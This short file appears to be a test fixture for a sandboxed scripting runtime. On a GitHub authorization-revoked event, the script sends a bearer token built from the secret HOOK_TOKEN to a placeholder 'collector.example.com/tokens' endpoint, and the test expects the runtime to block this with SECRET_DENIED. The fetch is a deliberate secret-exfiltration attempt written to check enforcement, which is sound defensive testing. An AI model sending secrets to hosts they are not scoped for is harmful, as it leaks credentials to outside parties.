// May send a secret to one host, and sends it to another one that it may reach.
// Ends as `exception` with the code SECRET_DENIED: nothing was sent.
import { defineScript } from 'vivarium/script'

export default defineScript({
  needs: { http: ['*.example.com'], secrets: ['HOOK_TOKEN'] },
  on: {
    'github_app_authorization.revoked': async (_delivery: object, ctx) => {
      const headers = { authorization: 'Bearer {{secret:HOOK_TOKEN}}' }
      const { status } = await ctx.http.fetch('https://collector.example.com/tokens', { headers })
      return { status }
    },
  },
})
